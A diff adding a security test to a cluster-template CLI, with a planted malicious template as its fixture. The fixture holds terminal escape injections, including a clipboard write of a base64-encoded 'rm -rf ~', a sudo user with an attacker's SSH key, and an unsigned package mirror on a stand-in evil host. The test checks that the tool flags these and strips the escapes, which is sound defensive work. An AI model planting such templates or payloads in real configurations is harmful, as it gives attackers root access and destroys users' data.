@@ -208,3 +208,66 @@ def test_a_cache_entry_swapped_for_a_link_is_not_served(repo, tmp_path, _isolate
     os.symlink("/etc/passwd", p)
     r = run_pctl("registry", "get", "team/starter-copy")
     assert r.returncode == 2 and "root:" not in r.stdout
+
+
+# ---------------------------------------------------------------- what a fetched template asks you to trust
+
+KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl mallory@evil"
+KEY_FP = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
+PLANTED = f"""\
+metadata:
+  title: "Friendly genomics\\e]0;pwned\\a\\e[2J"
+  description: "Looks harmless.\\e]8;;https://evil.example\\e\\\\click here\\e]8;;\\e\\\\ \\e]52;c;cm0gLXJmIH4=\\a\\x9b31m"
+  tags: [genomics]
+cluster: {{name: friendly, region: us-east-1}}
+compute:
+  head_node: t3.large
+  queues: [{{name: cpu, instance_types: [c6i.xlarge]}}]
+software:
+  spack_packages: [samtools@1.21]
+  mirrors:
+    - url: https://cache.evil.example/spack
+      allow_unsigned: true
+users:
+  - {{name: helper, uid: 5001, sudo: true, ssh_public_keys: ["{KEY}"]}}
+"""
+ESCAPES = ("\x1b", "\x07", "\x9b")
+
+
+def _no_escapes(text: str) -> None:
+    assert not any(c in text for c in ESCAPES), repr(text)
+
+
+def test_a_fetched_template_that_plants_sudo_and_an_unsigned_mirror_is_flagged(repo, tmp_path):
+    url, work = repo
+    (work / "friendly.yaml").write_text(PLANTED)
+    git("add", "-A", cwd=work)
+    git("commit", "-q", "-m", "planted", cwd=work)
+    git("push", "-q", "origin", "HEAD:main", cwd=work)
+    assert run_pctl("registry", "add", "team", url).returncode == 0
+    r = run_pctl("registry", "get", "team/friendly")
+    assert r.returncode == 0 and r.stdout == PLANTED  # verbatim: it is a copy of the file
+    assert f"warning: registry:team/friendly: sudo (root) for helper: {KEY_FP}" in r.stderr
+    assert "UNSIGNED Spack mirror https://cache.evil.example/spack" in r.stderr
+    r = run_pctl("registry", "get", "team/friendly", "-o", str(tmp_path / "copy.yaml"))
+    assert r.returncode == 0 and "sudo (root) for helper" in r.stderr
+    r = run_pctl("registry", "show", "team/friendly")
+    assert r.returncode == 0, r.stderr
+    _no_escapes(r.stdout + r.stderr)
+    assert "Friendly genomics" in r.stdout and "click here" in r.stdout
+    assert f"helper (uid 5001): 256 {KEY_FP} mallory@evil (ED25519)" in r.stdout
+    assert "3. https://cache.evil.example/spack  UNSIGNED (allow_unsigned: true)" in r.stdout
+    assert "sudo (root) for helper" in r.stderr
+    j = run_pctl("registry", "show", "team/friendly", "--json")
+    _no_escapes(j.stdout)  # JSON keeps the data, escaped (\u001b), never raw
+    doc = json.loads(j.stdout)
+    assert doc["title"].startswith("Friendly genomics\x1b]0;pwned")
+    assert doc["trust"]["unsigned_mirrors"] == ["https://cache.evil.example/spack"]
+    for args in (("registry", "list"), ("registry", "search", "genomics"), ("registry", "list", "--json")):
+        r = run_pctl(*args)
+        assert r.returncode == 0, r.stderr
+        _no_escapes(r.stdout + r.stderr)
+    assert "Friendly genomics" in run_pctl("registry", "list").stdout
+    # a library template with a sudo user is described, not flagged
+    r = run_pctl("registry", "get", "general/teaching")
+    assert r.returncode == 0 and "sudo (root)" not in r.stderr
